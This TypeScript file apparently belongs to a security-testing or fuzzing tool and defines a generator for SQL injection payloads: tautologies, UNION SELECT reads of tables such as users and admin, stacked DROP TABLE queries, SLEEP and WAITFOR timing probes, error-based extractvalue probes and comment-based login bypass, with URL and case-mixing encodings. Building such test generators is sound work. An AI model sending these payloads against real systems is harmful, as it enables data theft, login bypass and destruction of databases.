import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

const TABLES = ['users', 'accounts', 'orders', 'customers', 'admin', 'sessions'];
const PROBES = ['version()', 'user()', 'database()', '@@version', 'current_user'];
const USERS = ['admin', 'root', 'test', 'administrator'];

const columns = (random: Random) =>
  Array.from({ length: random.int(1, 5) }, (_, i) => (i === 0 ? random.pick(PROBES) : 'NULL')).join(',');

/** SQL injection: tautologies, UNION reads, stacked queries, blind timing and error-based probes. */
export const SQLI: PayloadFamily = {
  name: 'sqli',
  summary: 'SQL injection: tautologies, UNION, stacked queries, blind and error-based probes',
  templates: [
    (r) => {
      const c = r.word(1);
      return `${r.int(1, 999)}' OR '${c}'='${c}`;
    },
    (r) => {
      const n = r.int(1, 99);
      return `${r.int(1, 999)} OR ${n}=${n}-- -`;
    },
    (r) => `' UNION SELECT ${columns(r)} FROM ${r.pick(TABLES)}--`,
    (r) => `${r.int(1, 99)}; DROP TABLE ${r.pick(TABLES)}--`,
    (r) => `${r.int(1, 99)}' AND SLEEP(${r.int(2, 9)})-- -`,
    (r) => `1' AND extractvalue(1,concat(0x7e,(SELECT ${r.pick(PROBES)})))-- -`,
    (r) => `${r.pick(USERS)}'--`,
    (r) => `1'; WAITFOR DELAY '0:0:${r.int(2, 9)}'--`,
  ],
  points: ['query', 'path', 'form', 'json', 'cookie'],
  encodings: ['plain', 'url', 'double-url', 'mixed-case', 'sql-comment'],
};
